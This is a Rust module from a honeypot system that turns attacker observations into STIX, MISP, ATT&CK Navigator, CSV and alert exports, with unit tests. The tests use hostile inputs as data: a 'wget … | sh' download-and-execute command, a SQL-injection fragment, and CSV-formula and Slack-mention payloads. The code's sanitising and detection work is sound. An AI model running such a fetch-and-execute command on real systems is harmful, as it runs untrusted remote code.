//! Exports other tools read: a STIX 2.1 bundle and a MISP event built from the
//! facts SQL gathers about a set of attackers (`decnet.export_facts`).
//!
//! Every object id is a UUIDv5 of what the object stands for (the address, the
//! fingerprint, the identity), so exporting twice gives the same ids and a
//! consumer deduplicates. STIX cyber-observables use the namespace and the id
//! contributing properties STIX 2.1 §2.9 prescribes, so `stix2` computes the
//! same ids; everything else uses [`DECNET_NAMESPACE`].

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use sha1::{Digest, Sha1};
use std::collections::BTreeMap;

/// The UUIDv5 namespace of decnet's own STIX objects and MISP uuids (fixed forever).
pub const DECNET_NAMESPACE: [u8; 16] = [
    0x5a, 0x45, 0x2d, 0x7d, 0x43, 0x94, 0x46, 0x1a, 0xa6, 0xe0, 0xbe, 0x8b, 0xed, 0xfa, 0x8c, 0x75,
];
/// STIX 2.1 §2.9: the namespace of deterministic cyber-observable ids.
const STIX_SCO_NAMESPACE: [u8; 16] = [
    0x00, 0xab, 0xed, 0xb4, 0xaa, 0x42, 0x46, 0x6c, 0x9c, 0x01, 0xfe, 0xd2, 0x33, 0x15, 0xa9, 0xb7,
];
/// STIX `observed-data.number_observed` is at most this.
const MAX_NUMBER_OBSERVED: i64 = 999_999_999;

/// RFC 4122 name-based UUID (SHA-1), as lower-case text.
pub fn uuid_v5(namespace: &[u8; 16], name: &str) -> String {
    let mut h = Sha1::new();
    h.update(namespace);
    h.update(name.as_bytes());
    let d = h.finalize();
    let mut b = [0u8; 16];
    b.copy_from_slice(&d[..16]);
    b[6] = (b[6] & 0x0f) | 0x50;
    b[8] = (b[8] & 0x3f) | 0x80;
    let hex: String = b.iter().map(|x| format!("{x:02x}")).collect();
    format!(
        "{}-{}-{}-{}-{}",
        &hex[..8],
        &hex[8..12],
        &hex[12..16],
        &hex[16..20],
        &hex[20..]
    )
}

/// What SQL knows about one attacker (`decnet.export_facts`). Times are RFC 3339 UTC.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct AttackerFacts {
    pub ip: String,
    pub first_seen: Option<String>,
    pub last_seen: Option<String>,
    pub event_count: i64,
    #[serde(default)]
    pub services: Vec<String>,
    #[serde(default)]
    pub deckies: Vec<String>,
    pub behavior_class: Option<String>,
    pub country_code: Option<String>,
    pub asn: Option<i64>,
    /// Fingerprints by kind: `ja3`, `ja4`, `hassh`, `tls_cert`.
    #[serde(default)]
    pub fingerprints: BTreeMap<String, Vec<String>>,
    /// The identity, when it joins this address with others.
    pub identity: Option<String>,
}

/// A fingerprint kind that can leave: how its values must look (they are
/// attacker-written) and how STIX and MISP name it.
struct FingerprintKind {
    kind: &'static str,
    label: &'static str,
    valid: fn(&str) -> bool,
    stix_path: &'static str,
    misp_type: &'static str,
}

fn is_hex(v: &str, len: usize) -> bool {
    v.len() == len
        && v.bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
}

/// JA4 is `t13d1516h2_8daaf6152771_b0da82dd1658`: short, lower-case, underscores.
fn is_ja4(v: &str) -> bool {
    (1..=80).contains(&v.len())
        && v.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
}

const FINGERPRINT_KINDS: [FingerprintKind; 4] = [
    FingerprintKind {
        kind: "ja3",
        label: "JA3",
        valid: |v| is_hex(v, 32),
        stix_path: "network-traffic:extensions.'x-decnet-fingerprint'.ja3",
        misp_type: "ja3-fingerprint-md5",
    },
    FingerprintKind {
        kind: "ja4",
        label: "JA4",
        valid: is_ja4,
        stix_path: "network-traffic:extensions.'x-decnet-fingerprint'.ja4",
        misp_type: "text",
    },
    FingerprintKind {
        kind: "hassh",
        label: "HASSH",
        valid: |v| is_hex(v, 32),
        stix_path: "network-traffic:extensions.'x-decnet-fingerprint'.hassh",
        misp_type: "hassh-md5",
    },
    FingerprintKind {
        kind: "tls_cert",
        label: "TLS certificate SHA-256",
        valid: |v| is_hex(v, 64),
        stix_path: "x509-certificate:hashes.'SHA-256'",
        misp_type: "x509-fingerprint-sha256",
    },
];

/// The fingerprints of `a` that are well-formed, as (kind, value), sorted.
fn fingerprints_of(a: &AttackerFacts) -> Vec<(&'static FingerprintKind, &str)> {
    let mut out = Vec::new();
    for k in &FINGERPRINT_KINDS {
        let mut values: Vec<&str> = a
            .fingerprints
            .get(k.kind)
            .map(|v| {
                v.iter()
                    .map(String::as_str)
                    .filter(|v| (k.valid)(v))
                    .collect()
            })
            .unwrap_or_default();
        values.sort_unstable();
        values.dedup();
        out.extend(values.into_iter().map(|v| (k, v)));
    }
    out
}

fn sco_type(ip: &str) -> &'static str {
    if ip.contains(':') {
        "ipv6-addr"
    } else {
        "ipv4-addr"
    }
}

/// The id `stix2` gives an address: UUIDv5 of its canonical JSON `{"value":…}`.
pub fn stix_address_id(ip: &str) -> String {
    let name = json!({ "value": ip }).to_string();
    format!("{}--{}", sco_type(ip), uuid_v5(&STIX_SCO_NAMESPACE, &name))
}

fn stix_id(kind: &str, name: &str) -> String {
    format!(
        "{kind}--{}",
        uuid_v5(&DECNET_NAMESPACE, &format!("{kind}|{name}"))
    )
}

/// An attacker's first and last time, or None when it has no time at all.
fn span(a: &AttackerFacts) -> Option<(&str, &str)> {
    let first = a.first_seen.as_deref().or(a.last_seen.as_deref())?;
    let last = a.last_seen.as_deref().unwrap_or(first);
    Some((first, last.max(first)))
}

fn describe(a: &AttackerFacts) -> String {
    let mut parts = vec![format!("{} events seen by decnet honeypots", a.event_count)];
    if !a.services.is_empty() {
        parts.push(format!("services: {}", a.services.join(", ")));
    }
    if !a.deckies.is_empty() {
        parts.push(format!("deckies: {}", a.deckies.join(" → ")));
    }
    if let Some(c) = &a.behavior_class {
        parts.push(format!("behaviour: {c}"));
    }
    if let Some(c) = &a.country_code {
        parts.push(format!("country: {c}"));
    }
    if let Some(n) = a.asn {
        parts.push(format!("AS{n}"));
    }
    parts.join("; ")
}

/// A STIX indicator of malicious activity, valid from its first time.
fn stix_indicator(
    id: &str,
    (first, last): (&str, &str),
    name: &str,
    description: &str,
    pattern: &str,
) -> Value {
    json!({
        "type": "indicator", "spec_version": "2.1", "id": id,
        "created": first, "modified": last,
        "name": name, "description": description,
        "indicator_types": ["malicious-activity"],
        "pattern": pattern, "pattern_type": "stix", "valid_from": first,
    })
}

/// Adds the relationship `source kind target` to the bundle's objects, by its id.
fn add_relationship(
    objects: &mut BTreeMap<String, Value>,
    (kind, source, target): (&str, &str, &str),
    (created, modified): (&str, &str),
) {
    let id = stix_id("relationship", &format!("{source}|{kind}|{target}"));
    let rel = json!({
        "type": "relationship", "spec_version": "2.1", "id": id,
        "created": created, "modified": modified,
        "relationship_type": kind, "source_ref": source, "target_ref": target,
    });
    objects.insert(id, rel);
}

/// A STIX 2.1 bundle: per attacker its address, an indicator and the
/// observed-data it is based on; an indicator per well-formed fingerprint;
/// and per identity of several addresses an infrastructure that consists of
/// them. Objects come sorted by id, so equal input gives equal bytes.
pub fn stix_bundle(attackers: &[AttackerFacts]) -> Value {
    let mut objects: BTreeMap<String, Value> = BTreeMap::new();
    // fingerprint → (first, last, observed-data ids)
    let mut fp_seen: BTreeMap<(&str, &str), (String, String, Vec<String>)> = BTreeMap::new();
    // identity → (first, last, address ids, indicator ids)
    type Members = (String, String, Vec<String>, Vec<String>);
    let mut identities: BTreeMap<&str, Members> = BTreeMap::new();
    for a in attackers {
        let Some((first, last)) = span(a) else {
            continue;
        };
        let addr = stix_address_id(&a.ip);
        objects.insert(
            addr.clone(),
            json!({"type": sco_type(&a.ip), "spec_version": "2.1", "id": addr, "value": a.ip}),
        );
        let observed = stix_id("observed-data", &a.ip);
        objects.insert(
            observed.clone(),
            json!({
                "type": "observed-data", "spec_version": "2.1", "id": observed,
                "created": first, "modified": last,
                "first_observed": first, "last_observed": last,
                "number_observed": a.event_count.clamp(1, MAX_NUMBER_OBSERVED),
                "object_refs": [addr],
            }),
        );
        let indicator = stix_id("indicator", &format!("ip|{}", a.ip));
        objects.insert(
            indicator.clone(),
            stix_indicator(
                &indicator,
                (first, last),
                &format!("decnet attacker {}", a.ip),
                &describe(a),
                &format!("[{}:value = '{}']", sco_type(&a.ip), a.ip),
            ),
        );
        add_relationship(
            &mut objects,
            ("based-on", &indicator, &observed),
            (first, last),
        );
        for (k, v) in fingerprints_of(a) {
            let e = fp_seen
                .entry((k.kind, v))
                .or_insert_with(|| (first.to_owned(), last.to_owned(), Vec::new()));
            e.0 = e.0.as_str().min(first).to_owned();
            e.1 = e.1.as_str().max(last).to_owned();
            e.2.push(observed.clone());
        }
        if let Some(id) = a.identity.as_deref() {
            let e = identities
                .entry(id)
                .or_insert_with(|| (first.to_owned(), last.to_owned(), Vec::new(), Vec::new()));
            e.0 = e.0.as_str().min(first).to_owned();
            e.1 = e.1.as_str().max(last).to_owned();
            e.2.push(addr);
            e.3.push(indicator);
        }
    }
    for ((kind, value), (first, last, observed)) in &fp_seen {
        let Some(k) = FINGERPRINT_KINDS.iter().find(|k| k.kind == *kind) else {
            continue;
        };
        let indicator = stix_id("indicator", &format!("{kind}|{value}"));
        objects.insert(
            indicator.clone(),
            stix_indicator(
                &indicator,
                (first, last),
                &format!("{} {value}", k.label),
                &format!(
                    "{} fingerprint of {} decnet attacker(s)",
                    k.label,
                    observed.len()
                ),
                &format!("[{} = '{value}']", k.stix_path),
            ),
        );
        for o in observed {
            add_relationship(&mut objects, ("based-on", &indicator, o), (first, last));
        }
    }
    for (identity, (first, last, addresses, indicators)) in &identities {
        if addresses.len() < 2 {
            continue; // one address is no infrastructure
        }
        let infra = stix_id("infrastructure", identity);
        objects.insert(
            infra.clone(),
            json!({
                "type": "infrastructure", "spec_version": "2.1", "id": infra,
                "created": first, "modified": last,
                "name": format!("decnet identity {identity}"),
                "description": format!("{} addresses that decnet linked into one identity", addresses.len()),
                "infrastructure_types": ["unknown"],
                "first_seen": first, "last_seen": last,
            }),
        );
        for target in addresses {
            add_relationship(&mut objects, ("consists-of", &infra, target), (first, last));
        }
        for source in indicators {
            add_relationship(&mut objects, ("indicates", source, &infra), (first, last));
        }
    }
    let ids: Vec<&str> = objects.keys().map(String::as_str).collect();
    json!({
        "type": "bundle",
        "id": stix_id("bundle", &ids.join(",")),
        "objects": objects.into_values().collect::<Vec<_>>(),
    })
}

/// A MISP event (the JSON `PyMISP` and MISP's import read): an `ip-src` per
/// attacker with its facts as comment and tags, and the well-formed
/// fingerprints as their MISP types. `scope` names what was exported (the
/// window or the addresses) and gives the event its uuid.
pub fn misp_event(attackers: &[AttackerFacts], scope: &str) -> Value {
    let mut attributes: BTreeMap<String, Value> = BTreeMap::new();
    let mut first_date: Option<&str> = None;
    for a in attackers {
        let Some((first, last)) = span(a) else {
            continue;
        };
        first_date = Some(first_date.map_or(first, |d| d.min(first)));
        let mut tags = vec![json!({"name": "decnet"})];
        if let Some(c) = &a.behavior_class {
            tags.push(json!({ "name": format!("decnet:behavior=\"{}\"", tag_value(c)) }));
        }
        if let Some(c) = &a.country_code {
            tags.push(json!({ "name": format!("decnet:country=\"{}\"", tag_value(c)) }));
        }
        let uuid = uuid_v5(
            &DECNET_NAMESPACE,
            &format!("misp-attribute|ip-src|{}", a.ip),
        );
        attributes.insert(
            uuid.clone(),
            json!({
                "uuid": uuid, "type": "ip-src", "category": "Network activity",
                "value": a.ip, "to_ids": true, "comment": describe(a),
                "first_seen": first, "last_seen": last, "Tag": tags,
            }),
        );
        for (k, v) in fingerprints_of(a) {
            let uuid = uuid_v5(&DECNET_NAMESPACE, &format!("misp-attribute|{}|{v}", k.kind));
            let e = attributes.entry(uuid.clone()).or_insert_with(|| {
                json!({
                    "uuid": uuid, "type": k.misp_type, "category": "Network activity",
                    "value": v, "to_ids": k.misp_type != "text",
                    "comment": format!("{} fingerprint", k.label),
                    "first_seen": first, "last_seen": last,
                })
            });
            if e["first_seen"].as_str().is_some_and(|f| first < f) {
                e["first_seen"] = json!(first);
            }
            if e["last_seen"].as_str().is_some_and(|l| last > l) {
                e["last_seen"] = json!(last);
            }
        }
    }
    let date = first_date.map_or("1970-01-01", |d| d.get(..10).unwrap_or("1970-01-01"));
    json!({"Event": {
        "uuid": uuid_v5(&DECNET_NAMESPACE, &format!("misp-event|{scope}")),
        "info": format!("decnet honeypot attackers ({scope})"),
        "date": date,
        "threat_level_id": "3", "analysis": "2", "distribution": "0", "published": false,
        "Tag": [{"name": "decnet"}, {"name": "tlp:amber"}],
        "Attribute": attributes.into_values().collect::<Vec<_>>(),
    }})
}

/// A MISP machine-tag value may not hold a double quote.
fn tag_value(v: &str) -> String {
    v.chars()
        .filter(|c| *c != '"' && !c.is_control())
        .take(64)
        .collect()
}

/// What an ATT&CK Navigator layer needs of one attacker (`decnet.export_navigator`).
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AttackerActivity {
    /// Its kept commands (decnet.attacker_commands: the first and last ones).
    #[serde(default)]
    pub commands: Vec<String>,
    /// Distinct credentials it tried.
    pub credentials: i64,
    /// Whether it scanned a service (decnet.service_buckets).
    pub scanned: bool,
}

/// Techniques that come from what an attacker did rather than typed: a
/// credential tried is password guessing, a scanned service active scanning.
const ACTIVITY_TECHNIQUES: [(&str, &str); 2] = [
    ("T1110.001", "Brute Force: Password Guessing"),
    ("T1595", "Active Scanning"),
];

/// An ATT&CK Navigator layer (format 4.5, Enterprise): per technique, the
/// number of attackers that showed it, from their commands
/// (`identity::COMMAND_RULES`), credentials and scans.
pub fn navigator_layer(attackers: &[AttackerActivity], scope: &str) -> Value {
    let mut counts: BTreeMap<&str, (&str, i64)> = BTreeMap::new();
    for a in attackers {
        let mut mine: BTreeMap<&str, &str> = BTreeMap::new();
        for c in &a.commands {
            for r in crate::identity::command_techniques(c) {
                mine.insert(r.technique, r.technique_name);
            }
        }
        let [(guess, guess_name), (scan, scan_name)] = ACTIVITY_TECHNIQUES;
        if a.credentials > 0 {
            mine.insert(guess, guess_name);
        }
        if a.scanned {
            mine.insert(scan, scan_name);
        }
        for (t, name) in mine {
            counts.entry(t).or_insert((name, 0)).1 += 1;
        }
    }
    let max = counts.values().map(|(_, n)| *n).max().unwrap_or(1);
    let techniques: Vec<Value> = counts
        .iter()
        .map(|(t, (name, n))| {
            json!({"techniqueID": t, "score": n, "enabled": true,
                   "comment": format!("{name}: {n} attacker(s) seen by decnet")})
        })
        .collect();
    json!({
        "name": format!("decnet ({scope})"),
        "versions": {"layer": "4.5", "navigator": "5.1.0", "attack": "16"},
        "domain": "enterprise-attack",
        "description": format!("Techniques {} decnet attacker(s) showed; score: attackers per technique", attackers.len()),
        "sorting": 3,
        "hideDisabled": false,
        "techniques": techniques,
        "gradient": {"colors": ["#ffe766", "#ff6666"], "minValue": 0, "maxValue": max},
        "legendItems": [],
        "selectTechniquesAcrossTactics": true,
    })
}

/// One CSV field (RFC 4180), made safe for spreadsheets: attacker-written text
/// that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`
/// (OWASP's advice against CSV injection), then the field is quoted when needed.
pub fn csv_field(v: &str) -> String {
    let v = if v.starts_with(['=', '+', '-', '@', '\t', '\r']) && v.parse::<f64>().is_err() {
        format!("'{v}")
    } else {
        v.to_owned()
    };
    if v.contains([',', '"', '\n', '\r']) || v.starts_with(' ') || v.ends_with(' ') {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v
    }
}

/// An alert as `decnet notify` reads it from `decnet.alerts`.
#[derive(Debug, Clone)]
pub struct Alert {
    pub uuid: String,
    pub rule_id: i32,
    pub kind: String,
    pub note: Option<String>,
    pub match_key: String,
    pub attacker_ip: Option<String>,
    pub raised_at: String,
    pub detail: Value,
}

/// The alert as JSON: what the `json` webhook format sends.
pub fn alert_json(a: &Alert) -> Value {
    json!({
        "id": a.uuid,
        "rule": {"id": a.rule_id, "kind": a.kind, "note": a.note},
        "match": a.match_key,
        "attacker_ip": a.attacker_ip,
        "raised_at": a.raised_at,
        "detail": a.detail,
    })
}

/// Slack mrkdwn needs `&`, `<` and `>` escaped: attacker-written text must
/// not become a link or a mention.
fn slack_escape(v: &str) -> String {
    v.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// The alert as a Slack-compatible incoming-webhook message.
pub fn alert_slack(a: &Alert) -> Value {
    let facts = &a.detail["attacker"];
    let mut line = format!(
        "decnet alert: {} {}",
        a.kind,
        a.attacker_ip.as_deref().unwrap_or(&a.match_key)
    );
    let extra = match a.kind.as_str() {
        "traversal" => a.detail["traversal_path"].as_str().map(str::to_owned),
        "smtp_domain" => a.detail["domain"].as_str().map(|d| format!("targeted {d}")),
        "identity" => a.detail["member_count"]
            .as_i64()
            .map(|n| format!("identity of {n} addresses")),
        "rotation" => a.detail["rotation"]["probe_type"]
            .as_str()
            .map(|p| format!("{p} fingerprint rotated")),
        _ => facts["services"].as_array().map(|s| {
            let s: Vec<&str> = s.iter().filter_map(Value::as_str).collect();
            format!("services {}", s.join(", "))
        }),
    };
    if let Some(e) = extra {
        line.push_str(" — ");
        line.push_str(&e);
    }
    if let Some(c) = facts["behavior_class"].as_str() {
        line.push_str(&format!(" ({c})"));
    }
    json!({ "text": slack_escape(&line) })
}

/// The alert as a MISP event of its attacker, named after the alert.
pub fn alert_misp(a: &Alert) -> Value {
    let facts: Vec<AttackerFacts> = serde_json::from_value(a.detail["attacker"].clone())
        .map(|f| vec![f])
        .unwrap_or_default();
    misp_event(&facts, &format!("alert {} {}", a.kind, a.uuid))
}

/// Parses `decnet.export_facts` output: a JSON array of [`AttackerFacts`].
pub fn parse_facts(facts: &str) -> Result<Vec<AttackerFacts>, String> {
    serde_json::from_str(facts).map_err(|e| format!("export facts do not parse: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(ip: &str, identity: Option<&str>) -> AttackerFacts {
        AttackerFacts {
            ip: ip.into(),
            first_seen: Some("2026-11-30T10:00:00.000Z".into()),
            last_seen: Some("2026-11-30T11:00:00.000Z".into()),
            event_count: 42,
            services: vec!["ssh".into()],
            deckies: vec!["decky-01".into(), "decky-02".into()],
            behavior_class: Some("brute_force".into()),
            country_code: Some("NL".into()),
            asn: Some(64500),
            fingerprints: BTreeMap::from([
                (
                    "hassh".into(),
                    vec!["0123456789abcdef0123456789abcdef".into()],
                ),
                ("ja3".into(), vec!["' OR 1=1 ]".into()]), // attacker-written garbage
            ]),
            identity: identity.map(Into::into),
        }
    }

    #[test]
    fn uuid_v5_matches_rfc_4122_examples() {
        // Python: uuid.uuid5(uuid.NAMESPACE_DNS, "python.org")
        let dns = [
            0x6b, 0xa7, 0xb8, 0x10, 0x9d, 0xad, 0x11, 0xd1, 0x80, 0xb4, 0x00, 0xc0, 0x4f, 0xd4,
            0x30, 0xc8,
        ];
        assert_eq!(
            uuid_v5(&dns, "python.org"),
            "886313e1-3b8a-5372-9b90-0c9aee199e5d"
        );
    }

    #[test]
    fn address_ids_follow_stix_deterministic_ids() {
        // stix2.IPv4Address(value="198.51.100.3").id
        assert_eq!(
            stix_address_id("198.51.100.3"),
            format!(
                "ipv4-addr--{}",
                uuid_v5(&STIX_SCO_NAMESPACE, r#"{"value":"198.51.100.3"}"#)
            )
        );
        assert!(stix_address_id("2001:db8::1").starts_with("ipv6-addr--"));
    }

    #[test]
    fn a_bundle_is_stable_and_links_identities() {
        let input = vec![
            facts("198.51.100.3", Some("11111111-1111-4111-8111-111111111111")),
            facts("198.51.100.4", Some("11111111-1111-4111-8111-111111111111")),
            facts("2001:db8::1", None),
        ];
        let a = stix_bundle(&input);
        assert_eq!(a, stix_bundle(&input), "same input, same bundle");
        let objects = a["objects"].as_array().unwrap();
        let of_type = |t: &str| objects.iter().filter(|o| o["type"] == t).count();
        assert_eq!(of_type("ipv4-addr"), 2);
        assert_eq!(of_type("ipv6-addr"), 1);
        assert_eq!(of_type("observed-data"), 3);
        // 3 addresses + 1 HASSH; the malformed JA3 is left out
        assert_eq!(of_type("indicator"), 4);
        assert_eq!(of_type("infrastructure"), 1);
        let rels: Vec<&str> = objects
            .iter()
            .filter(|o| o["type"] == "relationship")
            .map(|o| o["relationship_type"].as_str().unwrap())
            .collect();
        assert_eq!(rels.iter().filter(|r| **r == "consists-of").count(), 2);
        assert_eq!(rels.iter().filter(|r| **r == "indicates").count(), 2);
        // 3 address indicators + the HASSH indicator on each of 3 observations
        assert_eq!(rels.iter().filter(|r| **r == "based-on").count(), 6);
        assert!(!a.to_string().contains("OR 1=1"));
        let v6 = objects
            .iter()
            .find(|o| o["type"] == "indicator" && o["name"] == "decnet attacker 2001:db8::1")
            .unwrap();
        assert_eq!(v6["pattern"], "[ipv6-addr:value = '2001:db8::1']");
    }

    #[test]
    fn a_misp_event_has_typed_attributes_and_a_stable_uuid() {
        let input = vec![facts("198.51.100.3", None), facts("198.51.100.4", None)];
        let e = misp_event(&input, "window");
        assert_eq!(e, misp_event(&input, "window"));
        assert_ne!(
            e["Event"]["uuid"],
            misp_event(&input, "other")["Event"]["uuid"]
        );
        let attrs = e["Event"]["Attribute"].as_array().unwrap();
        let types: Vec<&str> = attrs.iter().map(|a| a["type"].as_str().unwrap()).collect();
        assert_eq!(types.iter().filter(|t| **t == "ip-src").count(), 2);
        assert_eq!(
            types.iter().filter(|t| **t == "hassh-md5").count(),
            1,
            "one per value"
        );
        assert_eq!(e["Event"]["date"], "2026-11-30");
    }

    #[test]
    fn csv_fields_are_quoted_and_defused() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("-12.5"), "-12.5", "numbers stay numbers");
        assert_eq!(csv_field("line\nbreak"), "\"line\nbreak\"");
    }

    #[test]
    fn alert_messages_escape_what_attackers_wrote() {
        let f = facts("198.51.100.3", None);
        let a = Alert {
            uuid: "11111111-1111-4111-8111-111111111111".into(),
            rule_id: 5,
            kind: "smtp_domain".into(),
            note: None,
            match_key: "198.51.100.3|x".into(),
            attacker_ip: Some("198.51.100.3".into()),
            raised_at: "2026-11-30T11:00:00.000Z".into(),
            detail: json!({"attacker": serde_json::to_value(&f).unwrap(), "domain": "<!channel>&x"}),
        };
        let text = alert_slack(&a)["text"].as_str().unwrap().to_owned();
        assert!(text.contains("&lt;!channel&gt;&amp;x"), "{text}");
        assert_eq!(alert_json(&a)["id"], a.uuid);
        let misp = alert_misp(&a);
        let attrs = misp["Event"]["Attribute"].as_array().unwrap();
        assert!(attrs
            .iter()
            .any(|x| x["type"] == "ip-src" && x["value"] == "198.51.100.3"));
    }

    #[test]
    fn a_navigator_layer_counts_attackers_per_technique() {
        let a = |commands: &[&str], credentials, scanned| AttackerActivity {
            commands: commands.iter().map(|c| c.to_string()).collect(),
            credentials,
            scanned,
        };
        let layer = navigator_layer(
            &[
                a(
                    &["uname -a", "uname -r", "wget http://x/y -O- | sh"],
                    3,
                    true,
                ),
                a(&["uname -a"], 0, false),
                a(&[], 1, true),
            ],
            "all attackers",
        );
        let score = |t: &str| {
            layer["techniques"]
                .as_array()
                .unwrap()
                .iter()
                .find(|x| x["techniqueID"] == t)
                .map(|x| x["score"].as_i64().unwrap())
        };
        assert_eq!(score("T1082"), Some(2), "two attackers, not three commands");
        assert_eq!(score("T1105"), Some(1));
        assert_eq!(score("T1110.001"), Some(2));
        assert_eq!(score("T1595"), Some(2));
        assert_eq!(score("T1021.004"), None);
        assert_eq!(layer["gradient"]["maxValue"], 2);
        assert_eq!(layer["domain"], "enterprise-attack");
    }

    #[test]
    fn tag_values_lose_quotes() {
        assert_eq!(tag_value("a\"b\nc"), "abc");
    }

    #[test]
    fn unknown_fact_fields_are_refused() {
        assert!(parse_facts(r#"[{"ip":"1.2.3.4","event_count":1,"bogus":1}]"#).is_err());
        assert!(parse_facts(r#"[{"ip":"1.2.3.4","event_count":1,"first_seen":null,"last_seen":null,"behavior_class":null,"country_code":null,"asn":null,"identity":null}]"#).is_ok());
    }
}
